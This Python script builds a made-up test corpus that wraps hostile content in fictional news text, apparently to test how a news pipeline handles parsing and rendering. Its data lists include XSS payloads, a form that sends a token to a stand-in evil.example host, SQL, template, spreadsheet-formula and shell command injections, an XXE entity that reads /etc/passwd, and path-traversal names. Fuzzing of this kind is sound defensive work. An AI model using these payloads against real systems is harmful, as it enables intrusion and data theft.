"""Three hundred documents that try to break whoever reads, codes or shows them. All of them are made up.

Each has sentences of news, so that events and quotations come out of it, around what is hostile: markup that runs,
characters that turn, hide or pile up, lines without end, bytes in no encoding, and names that are addresses.
"""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path

NEWS = (
    "Norway expelled two Russian diplomats on 12 March 2024. Russia condemned the decision.",
    "Israeli jets bombed a depot in Syria on Friday, killing 14 soldiers, the Syrian state news agency said.",
    "French and German ministers met in Paris. Germany refused to send missiles to Ukraine.",
    "“We will not leave the talks,” Iranian Foreign Minister Abbas Araghchi told reporters in Geneva on Tuesday.",
    "China warned Japan on 4 May 2023 that it would halt trade talks. Japan rejected the demand.",
    "India and Pakistan agreed to a ceasefire. Kashmir’s main airport reopened on Sunday, officials said.",
    "The United States imposed sanctions on Belarus. Poland praised the move and sent 300 troops to the border.",
    "Turkey offered to mediate between Armenia and Azerbaijan, according to its foreign ministry.",
)

#: Markup that runs a script, loads something, or leaves what it stands in.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=token>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>click</a>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "\"' onmouseover=alert(1) x='",
    "` onfocus=alert(1) autofocus=`",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<x contenteditable onblur=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a id=d-e-1 name=main class=m href=#x>spoof</a>",
    "<p style='position:fixed;inset:0;background:#fff'>spoof</p>",
)

#: What templates, spreadsheets, databases and shells would run.
OTHERS = (
    "{{ 7 * 7 }}{{ config }}",
    "{% raw %}{% endraw %}{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    '=HYPERLINK("//evil.example")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'; DROP TABLE event; --",
    "\" OR 1=1; ATTACH '/tmp/x' AS x; --",
    "$(touch /tmp/pwned) `id` | cat",
)

BIDI = (
    "\u202egnp.exe\u202c", "\u202dleft\u202c",
    "\u2066isolated\u2069", "\u2067rtl\u2069", "\u2068first\u2069",
    "\u202a\u202a\u202a\u202a embeddings that nobody closes", "\u202e\u2066\u202e nested and open",
    "\u200f\u200e marks", "\u061c letter mark", "שלום \u202e abc \u202c עולם", "مرحبا RUS مرحبا",
    "\u2067" * 200 + "deep" + "\u2069" * 100, "\u202eSUPPORT\u202c ASSAULT", "confidence \u202e%001\u202c",
    "\u202eevah ew", "\u2028line separator\u2029paragraph separator",
)  # fmt: skip

CONTROLS = (
    "\x00", "a\x00b\x00c", "\x01\x02\x03\x04\x05\x06\x07\x08", "\x0b\x0c\x0e\x0f",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07", "\x7f\x80\x85\x9f", "\ufeffmark of order",
    "\ufff9annotation\ufffabelow\ufffb", "\ufffe\uffff", "\ufffd\ufffd", "\r\r\n\r",
    "\u2060\u2061\u2062\u2063\u2064", "\U000e0001\U000e0041\U000e007f tags", "\ue000\uf8ff private",
    "\x1a end of file", "\x08\x08\x08\x08backspace",
)  # fmt: skip

UNSEEN = (
    "R\u200bu\u200bs\u200bs\u200bi\u200ba", "\u200c\u200d\u200c\u200d", "\u00ad" * 500,
    "soft\u00adhyphens\u00adevery\u00adwhere", "\u180e\u3164\u115f\u1160", "\u200b" * 20_000,
    "\u2800\u2800\u2800", "  \u3000", "\ufe0f\ufe0e" * 300, "👩‍👩‍👧‍👦" * 60,
)  # fmt: skip

TOWERS = (
    "Z" + "\u0335\u0321\u0322\u0327" * 400,
    "".join(c + "\u0300\u0301\u0302\u0303" * 30 for c in "Zelensky met Putin"), "\u0300" * 5_000,
    "ก" + "็" * 2_000, "e\u20dd\u20de\u20df" * 200, "ﷺ" * 400, "ᄀ" * 2_000, "क्" * 1_500, "\u0489" * 800,
    "𝕽𝖚𝖘𝖘𝖎𝖆 𝖒𝖊𝖙 𝕮𝖍𝖎𝖓𝖆",
)  # fmt: skip

#: Names for rows: the name is the document's, so any text will do.
ROW_NAMES = (
    "../../etc/passwd", "/etc/passwd", "..", ".", "a/b/c", "a//b", "a\\b", "line\nbreak", "tab\there",
    "quote\"quote", "apostrophe's", "<b>bold</b>", "100% sure", "%00", "%2e%2e%2f", "a?b=c&d=e#f", "a;b",
    "a+b c", "name.csv", "name.html", " leading", "trailing ", "   ", "\u202egnp.txt", "null\x00byte", "émile",
    "русский", "日本語", "😀", "x" * 300, "é" * 2_500, "{{ 7 }}", "javascript:alert(1)", "http://evil.example/",
    "C:\\con", "a&amp;b", "'; DROP TABLE document; --", "=1+1", "\ufeffmark", "Ａ", "part=2&doc=other", "#e-1",
    "\ud800lone", "a\r\nset-cookie: x=1",
)  # fmt: skip

FILE_NAMES = (
    "a 'quoted' name", 'a "quoted" name', "new\nline", "percent %41 %", "question? & hash #1", "semi;colon",
    "back\\slash", "<img src=x onerror=alert(1)>", " leading blank", "trailing blank ", "-rf", "…dots…",
    "emoji 😀", "русский", "日本語", "\u202egnp", "tab\tname", "a" * 200, "é" * 100, "{{ 7 * 7 }}", "..hidden",
    "comma,name", "star*[ab]?", "$HOME `id`",
)  # fmt: skip

URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)",
    "java\tscript:alert(1)", "\x01javascript:alert(1)", "javascript://evil.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "file:///etc/passwd",
    "https://a.example/\"onmouseover=alert(1)", "https://a.example/<script>", "http://[::1",
    "https://user:pw@a.example/\u202egnp", "blob:https://a.example/x", "view-source:javascript:alert(1)",
    "ftp://a.example/x", "https://", "https:javascript:alert(1)", "HTTPS://A.example/ok",
)  # fmt: skip


def write(folder: Path, megabytes: float = 5.0) -> int:
    """Put the corpus into a folder, the longest lines of so many megabytes; how many documents it is meant to be.
    A name or a character that the file system will not take is left out."""
    count = 0
    for family in FAMILIES:
        place = folder / family.__name__.strip("_")
        place.mkdir(parents=True)
        for name, content in family():
            try:
                (place / os.fsdecode(name)).write_bytes(content)
            except OSError:  # a file system without such names
                continue
            count += 1
    for name, content in _huge(megabytes):
        (folder / name).write_bytes(content)
        count += 1
    return count + _rows(folder)


def _news(n: int) -> str:
    return NEWS[n % len(NEWS)]


def _around(n: int, hostile: str) -> str:
    """News with something hostile in its headline, in a sentence, in a quotation, and between paragraphs."""
    said = f"“The {hostile} is over,” President Vladimir Putin of Russia said on Monday."
    return f"{hostile} as ministers meet\n\n{_news(n)}\n\n{hostile}\n\n{said} {_news(n + 1)} {hostile} {_news(n + 2)}\n"


def _bytes(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _texts() -> Iterator[tuple[str, bytes]]:
    for n, hostile in enumerate((*PAYLOADS, *OTHERS)):
        yield f"text-{n:02}.txt", _bytes(_around(n, hostile))


def _characters() -> Iterator[tuple[str, bytes]]:
    for n, hostile in enumerate((*BIDI, *CONTROLS, *UNSEEN, *TOWERS)):
        yield f"character-{n:02}.txt", _bytes(_around(n, hostile))
    yield "surrogate.txt", _bytes(_around(0, "\ud83d lone \udc00 halves \udc00\ud83d"))


def _pages() -> Iterator[tuple[str, bytes]]:
    for n, hostile in enumerate(PAYLOADS):
        attribute = hostile.replace('"', "&quot;")
        head = (
            f'<title>{hostile} as ministers meet</title><meta name=author content="{attribute}">'
            f'<meta property=og:site_name content="{attribute}"><meta property=og:title content="{attribute}">'
            f'<link rel=canonical href="{URLS[n % len(URLS)]}">'
        )
        body = "".join(f"<p>{_news(n + k)} {hostile}</p>" for k in range(4))
        page = (
            f"<!doctype html><html><head>{head}</head><body><article><h1>{hostile}</h1>{body}</article></body></html>"
        )
        yield f"page-{n:02}.html", _bytes(page)


def _malformed() -> Iterator[tuple[str, bytes]]:
    news = "".join(f"<p>{_news(k)}" for k in range(4))
    whole = f"<html><body><article>{news}</article></body></html>"
    shapes = (
        news, f"<html><body>{news}", f"</html></body>{news}", f"<p><b><i>{news}</p></b></i>", f"<<p>>{news}<</p>>",
        f"<table><tr>{news}<td>", f"<p class='{news}", f'<p title="{news}', f"<!-- {news}", f"<![CDATA[{news}]]>",
        f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]>{whole}&b;",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>{whole}&e;", f"<plaintext>{news}", f"<xmp>{news}</xmp>",
        f"<frameset>{news}</frameset>", f"&{'a' * 10_000};{whole}", f"<{'a' * 50_000}>{whole}",
        f"<p {'x=1 ' * 20_000}>{whole}",
        f"<select><option>{news}</select>", f"<math><annotation-xml>{whole}", f"<html{'<html' * 500}{whole}",
        whole.replace("<p>", "<p/>"), f"<html lang='\x00'><body>\x00{whole}\x00", f"<meta charset=utf-7>{whole}",
    )  # fmt: skip
    for n, shape in enumerate(shapes):
        yield f"malformed-{n:02}.html", _bytes(shape)
    for n, tag in enumerate(("div", "span", "blockquote", "b", "table><tr><td", "ul><li")):
        close = "".join(f"</{part}>" for part in reversed(tag.split("><")))
        ends = close * 10_000 if n % 2 else ""
        yield f"deep-{n}.html", _bytes(f"<html><body>{f'<{tag}>' * 10_000}{news}{ends}</body></html>")


def _encodings() -> Iterator[tuple[str, bytes]]:
    news = "\n\n".join(_news(k) for k in range(4)) + "\n\nLe café de l’Élysée – “déjà vu”.\n"
    for n, name in enumerate(("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig", "cp1252", "utf-7")):
        yield f"encoding-{n}-{name}.txt", news.encode(name)
    for name in ("latin-1", "cp1251", "koi8-r", "iso2022_jp", "gb18030", "big5", "cp500"):
        yield f"encoding-{name}.txt", news.encode(name, "replace")
    yield "mojibake.txt", _bytes(news.encode().decode("cp1252", "replace"))
    yield "mixed.txt", news.encode() + news.encode("cp1252") + news.encode("utf-16-le")
    yield "overlong.txt", b"\xc0\xbcscript\xc0\xbe " + news.encode() + b"\xe0\x80\xbc \xf8\x88\x80\x80\xbc \xff\xfe\xfd"
    yield "half.txt", news.encode("utf-16")[:-1]
    yield "cut.txt", news.encode()[:-3] + b"\xe2\x80"
    yield "bytes.txt", news.encode() + bytes(range(256)) * 4
    yield "declared.html", b"<meta charset=cp1251><p>" + news.encode("utf-8")
    yield "declared-none.html", b"<meta charset=klingon><p>" + news.encode("utf-8")


def _names() -> Iterator[tuple[str, bytes]]:
    for n, name in enumerate(FILE_NAMES):
        yield f"{name}.txt", _bytes(f"Talks go on\n\n{_news(n)} {_news(n + 3)}\n")
    yield os.fsdecode(b"caf\xe9 \xff.txt"), _bytes(_news(1))


def _words() -> Iterator[tuple[str, bytes]]:
    for n, word in enumerate(("x" * 5_000, "Russia" * 2_000, "-" * 8_000, "a-" * 4_000, "“" * 3_000, "(" * 5_000)):
        yield f"word-{n}.txt", _bytes(_around(n, word))
    for n, sign in enumerate(("\n" * 60_000, "\t" * 30_000, " " * 60_000, ". " * 6_000, "\n-\n" * 6_000)):
        yield f"blank-{n}.txt", _bytes(f"{_news(n)}{sign}{_news(n + 1)}\n\n{_news(n + 2)}")


def _huge(megabytes: float) -> Iterator[tuple[str, bytes]]:
    size = int(megabytes * 1_000_000) - 1_000
    yield "huge-line.txt", _bytes(f"{_news(0)} {'x' * size} {_news(1)}")
    yield "huge-blanks.txt", _bytes(f"{_news(2)}{' ' * size}{_news(3)}")
    yield "long-word.txt", _bytes(f"{_news(4)}\n\n{'€' * 100_000}\n\n{_news(5)}")
    many = " ".join(_news(k) for k in range(len(NEWS)))
    yield "many-marks.txt", _bytes("Talks go on\n\n" + "\n\n".join([many] * 70))


def _rows(folder: Path) -> int:
    """Rows of JSON lines, JSON and CSV, with hostile names, titles, outlets, bylines and addresses."""
    rows = []
    for n, name in enumerate(ROW_NAMES):
        hostile = PAYLOADS[n % len(PAYLOADS)]
        about = {"id": name, "title": f"{hostile} as ministers meet", "outlet": hostile, "byline": f"By {hostile}"}
        more = {"url": URLS[n % len(URLS)], "published": "2024-03-13", "text": f"{_news(n)} {hostile} {_news(n + 1)}"}
        rows.append({**about, **more})
    for n, url in enumerate(URLS):
        rows.append({"id": f"url-{n}", "title": f"Ministers meet {n}", "url": url, "text": _news(n)})
    odd = [
        "",
        "null",
        "[]",
        "{",
        '{"text": 7}',
        '{"id": "no text"}',
        '{"id": {}, "text": "x"}',
        '{"text": "' + "x" * 99,
    ]
    lines = [json.dumps(row) for row in rows]
    (folder / "rows.jsonl").write_bytes(_bytes("\n".join([*lines[:20], *odd, *lines[20:], lines[0]]) + "\n"))
    table = io.StringIO()
    writer = csv.writer(table)
    writer.writerow(["id", "title", "outlet", "text"])
    for n, hostile in enumerate((*OTHERS, *PAYLOADS[:10])):
        writer.writerow([f"csv {n} {hostile}", hostile, hostile, f"{hostile} {_news(n)}\nSecond line. {_news(n + 1)}"])
    (folder / "rows.csv").write_bytes(_bytes(table.getvalue()) + b'"never closed, 1, 2\n,,,,,,,\n\xff\xfe,\x00,x\n')
    return len(rows) + len(OTHERS) + 10


FAMILIES: tuple[Callable[[], Iterator[tuple[str, bytes]]], ...] = (
    _texts, _characters, _pages, _malformed, _encodings, _names, _words,
)  # fmt: skip
